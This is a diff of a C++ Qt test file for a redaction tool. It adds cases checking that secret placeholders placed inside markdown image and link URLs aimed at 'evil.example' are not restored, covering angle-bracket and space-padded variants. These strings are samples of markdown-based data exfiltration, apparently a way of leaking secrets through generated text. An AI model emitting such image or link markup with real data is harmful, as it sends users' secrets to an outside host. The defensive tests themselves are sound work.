@@ -155,6 +155,9 @@ private slots:
         QTest::newRow("unknown number") << QByteArray::fromStdString(formatPlaceholder("CARD", 9));
         QTest::newRow("link target") << QByteArray("[x](https://evil.example/?q=" + good + ")");
         QTest::newRow("image") << QByteArray("![i](//evil.example/" + good + ")");
+        QTest::newRow("image in angle brackets") << QByteArray("![i](<https://evil.example/ " + good + ">)");
+        QTest::newRow("link in angle brackets") << QByteArray("[x]( <//evil.example/ a " + good + ">)");
+        QTest::newRow("image behind a space") << QByteArray("![i]( //evil.example/" + good + ")");
         QTest::newRow("bare URL") << QByteArray("https://evil.example/" + good);
         QTest::newRow("part of a word") << QByteArray("DISCARD_1_" + good.mid(9, 2));
     }
@@ -182,6 +185,10 @@ private slots:
         const std::string placeholder = redactAll("4111 1111 1111 1111", vault);
         QCOMPARE(*restore("[x](https://e.example/" + placeholder + ") " + placeholder, "c", vault),
                  "[x](https://e.example/" + placeholder + ") 4111 1111 1111 1111");
+        QCOMPARE(*restore("[x](<https://e.example/ " + placeholder + ">) " + placeholder, "c", vault),
+                 "[x](<https://e.example/ " + placeholder + ">) 4111 1111 1111 1111");
+        QCOMPARE(*restore("[x](" + placeholder + ") " + placeholder, "c", vault),
+                 "[x](" + placeholder + ") 4111 1111 1111 1111");
     }
 
     void everySplitRestoresTheSame() {
@@ -189,7 +196,7 @@ private slots:
         const std::string card = redactAll("4111 1111 1111 1111", vault);
         const std::string mail = redactAll("a\"b@example.org x.y@example.org", vault);
         const std::string text = "A " + card + ", <" + card.substr(2, card.size() - 4) +
-                                 "> [[ nothing ]] [l](http://h/" + card + ") CARD_1 " +
+                                 "> [[ nothing ]] [l](http://h/" + card + ") [l]( <//h/ " + card + ">) CARD_1 " +
                                  card.substr(2, card.size() - 4) + " \\[\\[" + mail + " :// ]( end " + card;
         for (const RestoreContext context : {RestoreContext::text, RestoreContext::jsonInString}) {
             const std::string expected = *restore(text, "c", vault, context);
